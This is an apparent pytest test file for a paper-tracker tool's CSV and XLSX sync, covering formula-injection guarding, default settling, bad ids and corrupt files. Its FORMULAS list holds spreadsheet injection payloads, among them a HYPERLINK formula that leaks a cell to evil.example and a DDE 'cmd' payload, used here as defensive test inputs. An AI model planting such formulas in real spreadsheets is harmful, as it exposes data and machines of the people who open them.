"""Hostile and mistaken input to `tracker sync` with the file remote: formula injection into the
CSV the team opens in a spreadsheet program, defaults that must settle, bad ids, bad files."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from tests.helpers.repo import SHEET, assert_sync_refused, edit_paper, read_rows, run_cli, set_cell
from tracker import store
from tracker.remotes.file import FileRemote, guard_formula, unguard_formula
from tracker.sync import sync

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
]


@pytest.mark.parametrize(
    "value", [*FORMULAS, "\tTAB", "\rCR", "'=quoted already", "''=twice", "'plain", "plain", ""]
)
def test_formula_guard_round_trips_exactly(value: str) -> None:
    written = guard_formula(value)
    assert written[:1] not in ("=", "+", "-", "@", "\t", "\r")
    assert unguard_formula(written) == value


def test_formula_cells_are_written_neutralised_and_read_back_exactly(synced_repo: Path) -> None:
    for paper_id, title in zip(["007", "2101.10000", "1810.04805"], FORMULAS, strict=False):
        edit_paper(synced_repo, paper_id, title=title)
    sync(synced_repo, apply=True)

    raw = (synced_repo / SHEET).read_bytes().decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(raw, newline="")) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
    assert "'" + FORMULAS[0] in cells and "'" + FORMULAS[1] in cells
    # The remote reads the exact titles back, so nothing is pushed or pulled again.
    table = FileRemote(synced_repo / SHEET).read()
    assert set(FORMULAS[:3]) <= {c for row in table.rows for c in row}
    assert not sync(synced_repo).plan.has_changes
    assert store.read_paper(store.paper_path(synced_repo, "007")).title == FORMULAS[0]


def test_xlsx_formula_text_is_stored_as_text_not_as_a_formula(tmp_path: Path) -> None:
    import openpyxl

    from tracker.sheet import SheetTable

    path = tmp_path / "list.xlsx"
    FileRemote(path).create(SheetTable(headers=["ID", "제목"], rows=[["a", FORMULAS[1]]]))
    sheet = openpyxl.load_workbook(path).worksheets[0]
    assert sheet["B2"].data_type == "s" and sheet["B2"].value == FORMULAS[1]
    assert FileRemote(path).read().rows == [["a", FORMULAS[1]]]
    assert read_rows  # noqa: B018 - shared helpers stay imported for the tests below
    assert set_cell


# --------------------------------------------------------------------------------------------
# Defaults and set-valued fields settle: the same values on both sides are never a change


def _append_row(root: Path, cells: dict[str, str]) -> None:
    rows = read_rows(root)
    header = rows[0]
    rows.append([cells.get(h, "") for h in header])
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows(rows)
    (root / SHEET).write_bytes(buffer.getvalue().encode("utf-8"))


def test_new_sheet_row_without_a_status_settles_and_a_later_edit_is_no_conflict(
    synced_repo: Path,
) -> None:
    _append_row(synced_repo, {"ID": "lstm-1997", "제목": "LSTM", "연도": "１９９７"})
    first = sync(synced_repo, apply=True)
    assert first.plan.new_from_sheet == ["lstm-1997"]
    lstm = store.read_paper(store.paper_path(synced_repo, "lstm-1997"))
    assert lstm.status.value == "proposed" and lstm.year == 1997
    again = sync(synced_repo)
    assert not again.plan.has_changes, (again.plan.pushes, again.plan.pulls)
    set_cell(synced_repo, "lstm-1997", "상태", "read")
    later = sync(synced_repo, apply=True)
    assert later.plan.conflicts == []
    assert [(c.paper_id, c.field, c.new) for c in later.plan.pulls] == [
        ("lstm-1997", "status", "read")
    ]


def test_reordered_readers_on_either_side_are_not_a_change(synced_repo: Path) -> None:
    edit_paper(synced_repo, "1810.04805", readers=["jiwoo", "minseo"])
    sync(synced_repo, apply=True)
    set_cell(synced_repo, "1810.04805", "담당자", "minseo, jiwoo")
    assert not sync(synced_repo).plan.has_changes
    edit_paper(synced_repo, "1810.04805", readers=["minseo", "jiwoo"])
    set_cell(synced_repo, "1810.04805", "담당자", "jiwoo,minseo")
    assert not sync(synced_repo).plan.has_changes
    # A real change to the set is still one.
    set_cell(synced_repo, "1810.04805", "담당자", "jiwoo")
    assert [c.field for c in sync(synced_repo).plan.pulls] == ["readers"]


@pytest.mark.parametrize("bad_id", ["a" * 300, "x" * 130])
def test_over_long_id_is_refused_by_the_dry_run_before_any_write(
    synced_repo: Path, bad_id: str
) -> None:
    from tests.helpers.repo import snapshot_tree
    from tracker.errors import SheetError

    _append_row(synced_repo, {"ID": bad_id, "제목": "Too long"})
    before = snapshot_tree(synced_repo)
    with pytest.raises(SheetError, match="too long"):
        sync(synced_repo)
    with pytest.raises(SheetError, match="too long"):
        sync(synced_repo, apply=True)
    assert snapshot_tree(synced_repo) == before


# --------------------------------------------------------------------------------------------
# Bad files: one message naming the file (and row) with the fix, exit 1, nothing written


_cli = run_cli
_refused = assert_sync_refused


def test_a_one_megabyte_cell_is_a_message_with_the_row(synced_repo: Path) -> None:
    set_cell(synced_repo, "007", "제목", "x" * 1_000_000)
    _refused(synced_repo, SHEET, "row 4", "fix:")


def _use_xlsx(root: Path, data: bytes) -> None:
    team = root / "papers" / "team.yaml"
    team.write_text(
        team.read_text(encoding="utf-8").replace("reading-list.csv", "reading-list.xlsx"),
        encoding="utf-8",
    )
    (root / "papers" / "reading-list.xlsx").write_bytes(data)
    (root / store.SNAPSHOT_FILE).unlink()  # a snapshot of the CSV would be refused first
    (root / store.SNAPSHOT_REMOTE_FILE).unlink()


@pytest.mark.parametrize(
    "data", [b"", b"not a zip at all", b"PK\x03\x04" + b"\x00" * 100], ids=["empty", "text", "torn"]
)
def test_corrupt_xlsx_is_a_message(synced_repo: Path, data: bytes) -> None:
    _use_xlsx(synced_repo, data)
    _refused(synced_repo, "reading-list.xlsx", "not a readable .xlsx", "fix:")


def test_xlsx_names_the_tab_it_read(tmp_path: Path) -> None:
    import openpyxl

    from tracker.errors import SheetError

    workbook = openpyxl.Workbook()
    workbook.active.title = "목록"
    workbook.active.append(["ID", "제목"])
    workbook.active.append(["bad id!", "x"])
    workbook.create_sheet("메모")
    path = tmp_path / "list.xlsx"
    workbook.save(path)
    from tracker.models import DEFAULT_COLUMNS
    from tracker.sheet import parse_table

    table = FileRemote(path).read()
    with pytest.raises(SheetError, match="tab '목록'"):
        parse_table(table, DEFAULT_COLUMNS)


@pytest.mark.parametrize("kind", ["dangling", "directory"])
def test_symlinks_in_papers_are_a_message(synced_repo: Path, kind: str) -> None:
    link = synced_repo / "papers" / "broken.md"
    if kind == "dangling":
        link.symlink_to(synced_repo / "nowhere.md")
    else:
        (synced_repo / "somedir").mkdir()
        link.symlink_to(synced_repo / "somedir")
    _refused(synced_repo, "papers/broken.md", "fix:")


def test_semicolon_delimited_csv_is_named_as_such(synced_repo: Path) -> None:
    rows = read_rows(synced_repo)
    (synced_repo / SHEET).write_text("\n".join(";".join(r) for r in rows) + "\n", "utf-8")
    _refused(synced_repo, "';' as the delimiter", "remote.delimiter")


def test_semicolon_delimiter_can_be_configured(synced_repo: Path) -> None:
    rows = read_rows(synced_repo)
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=";", lineterminator="\n").writerows(rows)
    (synced_repo / SHEET).write_text(buffer.getvalue(), "utf-8")
    team = synced_repo / "papers" / "team.yaml"
    team.write_text(team.read_text("utf-8") + '  delimiter: ";"\n', "utf-8")
    assert not sync(synced_repo).plan.has_changes


def test_nfd_korean_headers_and_statuses_are_read_as_nfc(synced_repo: Path) -> None:
    import unicodedata

    rows = read_rows(synced_repo)
    rows[0] = [unicodedata.normalize("NFD", h) for h in rows[0]]
    status = rows[0].index(unicodedata.normalize("NFD", "상태"))
    for row in rows[1:]:
        if row[0] == "007":
            row[status] = unicodedata.normalize("NFD", "발표 완료")
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows(rows)
    (synced_repo / SHEET).write_text(buffer.getvalue(), "utf-8")
    plan = sync(synced_repo).plan
    assert [(c.paper_id, c.field, c.new) for c in plan.pulls] == [("007", "status", "presented")]


def test_markup_like_text_in_an_error_message_is_printed_not_parsed(synced_repo: Path) -> None:
    # Rich would read "[/]" in a message as a closing tag and crash with a traceback.
    set_cell(synced_repo, "007", "상태", "[/] [bold]x")
    text = _refused(synced_repo, "[/] [bold]x")
    assert "MarkupError" not in text
